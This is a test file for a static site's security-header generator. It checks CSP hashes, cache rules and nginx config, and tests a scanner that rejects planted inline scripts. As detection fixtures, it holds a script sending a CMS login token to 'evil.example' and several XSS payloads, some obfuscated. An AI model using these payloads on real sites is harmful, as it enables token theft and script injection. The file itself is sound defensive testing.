import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, relative } from 'node:path';
import { describe, expect, it } from 'vitest';
import { headersFor, readHeaderRules } from '../host-rules';
import { inlineScripts } from '../../src/lib/inline-scripts';
import {
  COMMON_HEADERS,
  DOCUMENT_HEADERS,
  EMBED_ORIGINS,
  FALLBACK_CSP,
  IMMUTABLE,
  REVALIDATE,
  cspFor,
  formEndpointFromEnv,
  ownScriptsFor,
  writeHeaders,
} from './headers';
import { excerpt, foreignCode } from './foreign-code';

/** Netlify's reading of the file: every matching rule's value for the header, joined. */
const joined = (rules: Awaited<ReturnType<typeof readHeaderRules>>, path: string, name: string) =>
  rules.filter((rule) => rule.forRegExp.test(path)).flatMap((rule) => (rule.values[name] === undefined ? [] : [rule.values[name]]));

/** Our one inline script, as the layout writes it into every page. */
const OWN = `<script type="${inlineScripts.speculationRules.type}">${inlineScripts.speculationRules.text}</script>`;
/** A built page: our inline script, data blocks that never run, an external script, and `extra` in the body. */
const page = (extra = '') =>
  `<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/><title>t</title>${OWN}</head><body>${extra}<script type="application/json" data-island-props="">{"a":1}</script><script type="application/ld+json">{"@type":"Thing"}</script><script type="module" src="/assets/y.js"></script></body></html>`;
const sha = (text: string) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;
const OWN_HASH = sha(inlineScripts.speculationRules.text);

/** A small client build (`<tmp>/client`, so its nginx files go to `<tmp>/nginx`): two pages, an alias-like page, 404.html and a framed document. */
function fixture(): string {
  const dir = join(mkdtempSync(join(tmpdir(), 'headers-')), 'client');
  const write = (path: string, html: string) => {
    mkdirSync(join(dir, path, '..'), { recursive: true });
    writeFileSync(join(dir, path), html);
  };
  write('index.html', page('<h1>Home</h1>'));
  write('tara/index.html', page('<h1>Tara é</h1>'));
  write('defense/rhino/index.html', page('<h1>Rhino</h1>'));
  write('404.html', page('<h1>Not found</h1>'));
  write(
    'scenes/scene.html',
    '<!doctype html><html lang="en"><head><title>s</title><style>body{margin:0}</style></head><body><script src="/scenes/s.js"></script></body></html>',
  );
  write('assets/x.js', '');
  for (const file of [
    'pagefind/pagefind.js',
    'pagefind/pagefind.en_3c6342749f.pf_meta',
    'pagefind/wasm.en.pagefind',
    'pagefind/index/en_1a2b3c4.pf_index',
  ])
    write(file, 'x');
  write('_redirects', '/newsroom /news 301\n');
  return dir;
}

describe('headers for a static build', () => {
  it('allows our own inline script by its hash on every page the layout draws, WebAssembly, and never inline script in general or eval', async () => {
    const dir = fixture();
    await writeHeaders(dir, {});
    const rules = await readHeaderRules(dir);
    for (const path of ['/', '/tara', '/defense/rhino', '/404.html']) {
      const policy = headersFor(rules, path).get('Content-Security-Policy')!;
      expect(/script-src ([^;]+)/.exec(policy)![1]!.split(' '), path).toEqual(["'self'", "'wasm-unsafe-eval'", OWN_HASH]);
      expect(policy).not.toMatch(/'unsafe-eval'|'unsafe-inline'[^;]*;\s*style/);
      expect(policy).toMatch(/connect-src 'self';/);
    }
    expect(headersFor(rules, '/tara').get('Content-Security-Policy')).toMatch(/frame-ancestors 'none'/);
    // A document copied from public/ is not drawn by the layout: it may hold no inline script, and trusts none.
    expect(/script-src ([^;]+)/.exec(headersFor(rules, '/scenes/scene.html').get('Content-Security-Policy')!)![1]).toBe("'self' 'wasm-unsafe-eval'");
  });

  it('lets only our own pages frame a framed document, and no one frame a page', async () => {
    const dir = fixture();
    await writeHeaders(dir, {});
    const rules = await readHeaderRules(dir);
    expect(headersFor(rules, '/scenes/scene.html').get('Content-Security-Policy')).toMatch(/frame-ancestors 'self'$/);
    expect(headersFor(rules, '/404.html').get('Content-Security-Policy')).toMatch(/frame-ancestors 'none'$/);
  });

  it('adds the form endpoint’s origin, and only it, to connect-src', async () => {
    const dir = fixture();
    await writeHeaders(dir, { formEndpoint: 'https://forms.example.org/f/abc?x=1' });
    const rules = await readHeaderRules(dir);
    expect(headersFor(rules, '/tara').get('Content-Security-Policy')).toMatch(/connect-src 'self' https:\/\/forms\.example\.org;/);
    expect(cspFor('route', { formEndpoint: 'http://127.0.0.1:4325/contact-form' })).toMatch(/connect-src 'self' http:\/\/127\.0\.0\.1:4325;/);
  });

  it('reads the endpoint from the environment as Vite does', () => {
    const dir = mkdtempSync(join(tmpdir(), 'env-'));
    writeFileSync(join(dir, '.env.production'), 'VITE_FORM_ENDPOINT=https://forms.example.org/f\n');
    expect(formEndpointFromEnv(dir)).toBe('https://forms.example.org/f');
    expect(formEndpointFromEnv(mkdtempSync(join(tmpdir(), 'env-')))).toBeUndefined();
  });

  it('never sets one header twice for a path (hosts would join the values), except the policy', async () => {
    const dir = fixture();
    await writeHeaders(dir, {});
    const rules = await readHeaderRules(dir);
    const files = (d: string): string[] =>
      readdirSync(d).flatMap((n) => (statSync(join(d, n)).isDirectory() ? files(join(d, n)) : [`/${relative(dir, join(d, n))}`]));
    for (const path of [...files(dir), '/', '/tara', '/defense/rhino', '/no-such-page']) {
      const names = rules
        .flatMap((rule) => (rule.forRegExp.test(path) ? Object.keys(rule.values) : []))
        .filter((n) => n !== 'Content-Security-Policy');
      expect(names.length, path).toBe(new Set(names).size);
    }
    expect(headersFor(rules, '/assets/x.js').get('Cache-Control')).toBe('public, max-age=31536000, immutable');
    expect(headersFor(rules, '/pagefind/index/en_1a2b3c4.pf_index').get('Cache-Control')).toBe(IMMUTABLE);
    expect(headersFor(rules, '/pagefind/pagefind.en_3c6342749f.pf_meta').get('Content-Type')).toBe('application/octet-stream');
    expect(headersFor(rules, '/pagefind/pagefind.js').get('Cache-Control')).toBeUndefined();
    expect(headersFor(rules, '/tara').get('Cache-Control')).toBe('no-cache');
    expect(headersFor(rules, '/no-such-page').get('X-Content-Type-Options')).toBe('nosniff');
  });

  it('sends a policy at an unknown path too, one that changes no page’s own policy when a host sends both', async () => {
    const dir = fixture();
    await writeHeaders(dir, {});
    const rules = await readHeaderRules(dir);
    const [fallback, ...others] = joined(rules, '/no-such-page', 'Content-Security-Policy');
    expect(others).toEqual([]);
    expect(fallback).toBe(FALLBACK_CSP);
    expect(fallback).toMatch(/frame-ancestors 'self'/);
    expect(fallback).toMatch(/object-src 'none'/);
    const sources = (policy: string, name: string) => new RegExp(`(?:^|; )${name} ([^;]+)`).exec(policy)?.[1]?.split(' ');
    for (const path of ['/', '/tara', '/defense/rhino', '/404.html', '/scenes/scene.html']) {
      const [general, own, ...more] = joined(rules, path, 'Content-Security-Policy');
      expect([general, more], path).toEqual([FALLBACK_CSP, []]);
      // Every directive of the fallback is in the page's own policy with no source the fallback lacks ('none' allows nothing).
      for (const [name] of fallback!.split('; ').map((part) => part.split(' ')))
        for (const source of sources(own!, name!) ?? ['(missing)'])
          if (source !== "'none'") expect(sources(fallback!, name!), `${path} ${name}`).toContain(source);
    }
  });

  it('gives 404.html its policy in a <meta> tag before any script, without frame-ancestors, once', async () => {
    const dir = fixture();
    await writeHeaders(dir, {});
    await writeHeaders(dir, {});
    const html = readFileSync(join(dir, '404.html'), 'utf8');
    expect(html.match(/http-equiv="Content-Security-Policy"/g)).toHaveLength(1);
    expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.indexOf('<script'));
    expect(html).toContain(OWN_HASH.slice(8, 30));
    expect(html).not.toMatch(/frame-ancestors/);
  });

  it('writes the same policies for nginx, keyed by the file nginx serves, and the redirects', async () => {
    const dir = fixture();
    await writeHeaders(dir, {});
    const map = readFileSync(join(dir, '..', 'nginx', 'csp-map.conf'), 'utf8');
    expect(map).toContain(`"/tara/index.html" "${cspFor('route')}";`);
    expect(map).toContain(`"/scenes/scene.html" "${cspFor('document')}";`);
    expect(map).toContain('"/index.html" ');
    expect(map).toContain('"/404.html" ');
    expect(readFileSync(join(dir, '..', 'nginx', 'redirects.conf'), 'utf8')).toContain('location = /newsroom { return 301 /news$is_args$args; }');
  });
});

describe('code the site did not write', () => {
  it('refuses a build with an inline script planted in a built page by hand, naming the page and the start of the script, and writes no headers', async () => {
    const dir = fixture();
    const planted = `<script>fetch('https://evil.example/steal?t=' + localStorage.getItem('decap-cms-user'))</script>`;
    mkdirSync(join(dir, 'news', 'launch'), { recursive: true });
    writeFileSync(join(dir, 'news', 'launch', 'index.html'), page(`<p>Launch</p>${planted}`));
    const refused = writeHeaders(dir, {});
    await expect(refused).rejects.toThrow(
      /news\/launch\/index\.html \(\/news\/launch\): an inline <script> the site's code does not write: "fetch\('https:\/\/evil\.example/,
    );
    await expect(refused).rejects.toThrow(/src\/lib\/inline-scripts\.ts/);
    expect(existsSync(join(dir, '_headers'))).toBe(false);
    expect(existsSync(join(dir, '..', 'nginx', 'csp-map.conf'))).toBe(false);
    // The same build without the planted script passes.
    writeFileSync(join(dir, 'news', 'launch', 'index.html'), page('<p>Launch</p>'));
    await writeHeaders(dir, {});
    expect(existsSync(join(dir, '_headers'))).toBe(true);
  });

  it('finds every kind of code that could run, however it is written, and lets data blocks, external scripts and our own script be', () => {
    const planted: [string, string][] = [
      ['<script type="module">import "/assets/x.js";</script>', 'an inline <script type="module">'],
      ['<script type="text/javascrip">alert(1)</script>', 'an inline <script type="text/javascrip">'],
      // Our script's type with other text: matched by its exact text, not its type.
      [`<script type="speculationrules">{"prerender":[{"source":"list","urls":["/evil"]}]}</script>`, 'an inline <script type="speculationrules">'],
      ['<img src="/x.png" alt="" onerror="alert(1)">', 'an event-handler attribute on <img>: onerror="alert(1)"'],
      ['<div ONCLICK="alert(1)">x</div>', 'an event-handler attribute on <div>: onclick='],
      ['<a href="javascript:alert(1)">x</a>', 'a javascript: address on <a>: href="javascript:alert(1)"'],
      ['<a href=" JaVa&#x53;cript&colon;alert(1)">x</a>', 'a javascript: address on <a>: href="JaVaScript:alert(1)"'],
      ['<a href="java\tscript:alert(1)">x</a>', 'a javascript: address on <a>'],
      ['<form action="javascript:void 0"></form>', 'a javascript: address on <form>: action='],
      ['<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', 'a javascript: address on <a>: href='],
      ['<svg><animate attributeName="href" values="/x;javascript:alert(1)"/></svg>', 'a javascript: address on <animate>: values='],
      ['<template><script>alert(1)</script></template>', 'an inline <script> the site\'s code does not write: "alert(1)"'],
      ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'in <iframe srcdoc>: an inline <script>'],
    ];
    for (const [html, expected] of planted) {
      const found = foreignCode([{ file: 'x/index.html', urlPath: '/x', kind: 'route', html: page(html) }], (built) => ownScriptsFor(built.kind));
      expect(
        found.map((f) => f.what),
        html,
      ).toHaveLength(1);
      expect(found[0]!.what, html).toContain(expected);
    }
    const clean = page('<a href="/tara">Tara</a><a href="https://example.org/javascript:x">x</a><p title="onboarding">on</p>');
    expect(foreignCode([{ file: 'x/index.html', urlPath: '/x', kind: 'route', html: clean }], (built) => ownScriptsFor(built.kind))).toEqual([]);
  });

  it('lets a document copied from public/ hold no inline script, not even ours', () => {
    const scene = { file: 'scenes/s.html', urlPath: '/scenes/s.html', kind: 'document' as const, html: page() };
    expect(foreignCode([scene], (built) => ownScriptsFor(built.kind)).map((f) => f.what)).toEqual([
      expect.stringContaining('an inline <script type="speculationrules">'),
    ]);
  });

  it('quotes only the start of a long script, on one line', () => {
    expect(excerpt(`alert(1);\n${'x'.repeat(200)}`)).toBe(JSON.stringify(`alert(1); ${'x'.repeat(70)}…`));
  });
});

describe('embeds in content', () => {
  it('every embed address in content is allowed by frame-src (or is on this site)', () => {
    const files = (d: string): string[] =>
      readdirSync(d).flatMap((n) => (statSync(join(d, n)).isDirectory() ? files(join(d, n)) : /\.(mdx|ya?ml)$/.test(n) ? [join(d, n)] : []));
    const urls = files('content').flatMap((file) =>
      readFileSync(file, 'utf8')
        .split('\n')
        .filter((line) => !line.trim().startsWith('#'))
        .flatMap((line) => [...line.matchAll(/embedUrl:\s*["']?([^"'\s]+)/g)].map(([, url]) => ({ file, url: url! }))),
    );
    expect(urls.length).toBeGreaterThan(0);
    for (const { file, url } of urls) {
      if (url.startsWith('/')) continue;
      expect(EMBED_ORIGINS as readonly string[], `${file}: ${url}`).toContain(new URL(url).origin);
    }
  });
});

describe('docs/nginx.conf', () => {
  it('sends the same common headers and cache rules as _headers', () => {
    const conf = readFileSync('docs/nginx.conf', 'utf8');
    for (const [name, value] of COMMON_HEADERS)
      expect(conf, name).toMatch(new RegExp(`add_header ${name} ["']${value.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}["'] always;`));
    expect(conf).toContain(`~^/assets/   "${IMMUTABLE}"`);
    expect(conf).toContain(`~\\.html$     "${REVALIDATE}"`);
    expect(conf).toContain('include /etc/nginx/ihub/csp-map.conf;');
    expect(conf).toContain('include /etc/nginx/ihub/redirects.conf;');
    expect(conf).toContain('add_header Content-Security-Policy $ihub_csp always;');
    // A page's opener policy, and the content editor's (scripts/cms/headers.ts), chosen by address.
    for (const [name, value] of DOCUMENT_HEADERS) {
      expect(conf).toContain(`add_header ${name} $ihub_coop always;`);
      expect(conf).toContain(`default        "${value}";`);
    }
  });
});
